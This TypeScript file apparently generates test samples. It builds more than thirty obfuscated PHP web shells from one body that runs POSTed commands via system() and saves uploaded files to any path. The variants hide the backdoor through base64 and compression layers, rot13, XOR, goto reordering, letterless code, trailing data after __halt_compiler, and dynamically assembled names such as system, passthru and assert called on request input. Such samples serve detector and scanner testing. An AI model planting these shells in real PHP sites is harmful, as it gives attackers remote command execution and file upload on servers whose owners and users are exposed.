import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib'

const base64 = (text: string | Buffer): string => Buffer.from(text).toString('base64')
const hex = (text: string): string =>
  Array.from(text, (c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')
const octal = (text: string): string =>
  Array.from(text, (c) => `\\${c.charCodeAt(0).toString(8).padStart(3, '0')}`).join('')
const reverse = (text: string): string => Array.from(text).toReversed().join('')
const rot13 = (text: string): string =>
  text.replace(/[a-z]/gi, (c) =>
    String.fromCharCode(((c.charCodeAt(0) - (c < 'a' ? 65 : 97) + 13) % 26) + (c < 'a' ? 65 : 97)),
  )
const xor = (text: string, key: string): string =>
  Array.from(text, (c, at) => String.fromCharCode(c.charCodeAt(0) ^ key.charCodeAt(at % key.length))).join('')

const BODY =
  "$c=$_POST['c'];if($c){ob_start();system($c.' 2>&1');echo ob_get_clean();}if(isset($_FILES['f'])){move_uploaded_file($_FILES['f']['tmp_name'],$_POST['d']);}"

/** Statements in another order, each going to the next. */
function gotoOf(statements: readonly string[]): string {
  const parts = statements.map((text, at) => `L${at}: ${text} goto L${at + 1};`)
  const order = [...parts.filter((_, at) => at % 2 === 1), ...parts.filter((_, at) => at % 2 === 0)]
  return `<?php goto L0; ${order.join(' ')} L${statements.length}: ?>`
}

/** A program without letters or digits: texts made by exclusive or of marks. */
function withoutLetters(): string {
  const spell = (text: string): string => {
    const left = Array.from(text, (c) => String.fromCharCode(c.charCodeAt(0) ^ (0x5e & 0x7f))).join('')
    return `("${hex(left)}"^"${'^'.repeat(text.length)}")`
  }
  return `<?php $_=${spell('assert')};$__=${spell('_POST')};$___=$$__;$_($___[_]);`
}

/** Programs that tools of obfuscation make of one body. */
export const PHP_HIDDEN: readonly string[] = [
  `<?php eval(gzinflate(base64_decode('${base64(deflateRawSync(BODY))}')));`,
  `<?php eval(gzuncompress(base64_decode(strrev(str_rot13('${rot13(reverse(base64(deflateSync(BODY))))}')))));`,
  `<?php $a='${base64(gzipSync(BODY))}'; $f='gz'.'de'.'code'; $b='base'.(128/2).'_de'.'code'; eval($f($b($a)));`,
  `<?php /* encoded */ $OOO0000OO="${hex('base64_decode')}"; $O0OO00O0O0="${octal('eval($OOO0000OO($x));')}"; $x='${base64(BODY)}'; eval($O0OO00O0O0);`,
  gotoOf([
    "$a = '${x}';".replace('${x}', base64(BODY)),
    '$b = "${x}";'.replace('${x}', hex('base64_decode')),
    '$c = $b($a);',
    '@eval($c);',
  ]),
  gotoOf(['$k = $_REQUEST;', "$f = 'pass' . 'thru';", 'if (!isset($k[1])) { goto L3; }', '$f($k[1]);']),
  withoutLetters(),
  `<?php $_=[];$_=@"$_";$_=$_['!'=='@'];$___=$_;$__=$_;$__++;$__++;$__++;$__++;$__++;$__++;$__++;$__++;$__++;$__++;$__++;$__++;$__++;$__++;$__++;$__++;$__++;$__++;$___.=$__;$___.=$__;$__=$_;$__++;$__++;$__++;$__++;$___.=$__;$__=$_;for($i=0;$i<17;$i++)$__++;$___.=$__;$__=$_;for($i=0;$i<19;$i++)$__++;$___.=$__;$____='_POST';$_=$$____;$___($_[_]);`,
  `<?php $k='s3cret'; $d=base64_decode('${base64(Buffer.from(xor(BODY, 's3cret'), 'latin1'))}'); $o=''; for($i=0;$i<strlen($d);$i++){ $o.=chr(ord($d[$i])^ord($k[$i%strlen($k)])); } eval($o);`,
  `<?php function d($s,$k){ $r=''; foreach(str_split($s) as $i=>$c){ $r.=$c^$k[$i%strlen($k)]; } return $r; } $f=d(hex2bin('${Buffer.from(xor('create_function', 'kk'), 'latin1').toString('hex')}'),'kk'); $g=$f('', d(base64_decode('${base64(Buffer.from(xor(BODY, 'kk'), 'latin1'))}'),'kk')); $g();`,
  `<?php $q='abcdefghijklmnopqrstuvwxyz_0123456789'; $a=$q[0].$q[18].$q[18].$q[4].$q[17].$q[19]; $a($_POST['z']);`,
  `<?php $a = array('e','v','a','l'); $code = implode('', $a).'($_POST["k"]);'; $f = 'create_'.'function'; $l = $f('', $code); $l();`,
  `<?php $x = "s!y!s!t!e!m"; $x = implode(explode('!', $x)); $y = '_' . strtoupper('get'); \${'r'} = \${$y}; $x($r['c']);`,
  `<?php class XxLoader{ private $p; function __construct($p){ $this->p=$p; } function __toString(){ return str_rot13(base64_decode($this->p)); } function __destruct(){ $c=(string)$this; eval($c); } } new XxLoader('${base64(rot13(BODY))}');`,
  `<?php $data = file_get_contents(__FILE__); $at = strpos($data, '__DA' . 'TA__'); eval(gzinflate(base64_decode(substr($data, $at + 8)))); exit; ?>__DATA__${base64(deflateRawSync(BODY))}`,
  `<?php $f = fopen(__FILE__, 'r'); fseek($f, __COMPILER_HALT_OFFSET__); $c = stream_get_contents($f); eval(base64_decode($c)); __halt_compiler();${base64(BODY)}`,
  `<?php $m = array(${Array.from('system', (c) => c.charCodeAt(0) + 7).join(',')}); $n = ''; foreach ($m as $v) { $n .= chr($v - 7); } @$n($_REQUEST['q']);`,
  `<?php $s = 'c3lzdGVt'; $d = "\\x62\\141\\x73\\145\\x36\\64\\x5f\\144\\x65\\143\\x6f\\144\\x65"; $g = $d($s); $g(@$_SERVER["\\x48\\x54\\x54\\x50\\x5f\\x58"]);`,
  `<?php $a='pre'.'g_rep'.'lace'; $a('/x/'.'e', '@'.'ev'.'al($_PO'.'ST[1]);', 'x');`,
  `<?php \${"GLOBALS"}["aa"]="cmd"; \${"GLOBALS"}["bb"]="fn"; \${\${"GLOBALS"}["bb"]}="shell_exec"; \${\${"GLOBALS"}["aa"]}=$_GET["x"]; echo \${\${"GLOBALS"}["bb"]}(\${\${"GLOBALS"}["aa"]});`,
  `<?php $GLOBALS['_1']=Array(base64_decode('${base64('assert')}'),base64_decode('${base64('str_rot13')}')); function _2($i){ $a=Array('${base64('c')}'); return base64_decode($a[$i]); } $GLOBALS['_1'][0]($_POST[_2(0)]);`,
  `<?php eval("\\x65\\x76\\x61\\x6c(\\$_POST['" . chr(112) . "']);");`,
  `<?php $t = strtr('nffreg', 'abcdefghijklmnopqrstuvwxyz', 'nopqrstuvwxyzabcdefghijklm'); call_user_func_array($t, [$_COOKIE['x']]);`,
  `<?php $w = 'Q'; while (strlen($w) < 5) { $w .= 'x'; } $fn = str_replace('Qxxxx', 'pass', $w) . 'thru'; $fn($_GET['a']);`,
  `<?php $i = "include"; $u = "data://text/plain;base64," . '${base64('<?php ' + BODY)}'; include $u;`,
  `<?php $un = unserialize(base64_decode('${base64('a:2:{i:0;s:6:"system";i:1;s:1:"c";}')}')); $un[0]($_GET[$un[1]]);`,
  `<?php $e = pack('H*', '${Buffer.from('eval($_POST["p"]);').toString('hex')}'); @eval($e);`,
  `<?php $u = convert_uudecode("&<WES=&5M\\n\\0"); $f = $u; $f($_POST['u']);`,
  `<?php if (1) { $l = 'YmFzZTY0X2RlY29kZQ=='; } eval(str_rot13(gzinflate(str_rot13(base64_decode('${base64(rot13String(deflateRawSync(rot13(BODY))))}')))));`,
  `<?php @$_[]=@!+_; $__=@\${_}>>$_; $_[]=$__; $_[]=@_; $_[((++$__)+($__++ ))].=$_; $f=base64_decode("${base64('system')}"); $f($_GET['x']);`,
  `<?php $c = "c" . "h" . "r"; $n = $c(115) . $c(121) . $c(115) . $c(116) . $c(101) . $c(109); array_walk($_GET, function ($v) use ($n) { $n($v); });`,
  `<?php $z = get_defined_functions(); foreach ($z['internal'] as $f) { if (md5($f) === '54b53072540eeeb8f8e9343e71f28176') { $f($_POST['a']); } }`,
]

function rot13String(bytes: Buffer): Buffer {
  return Buffer.from(rot13(bytes.toString('latin1')), 'latin1')
}
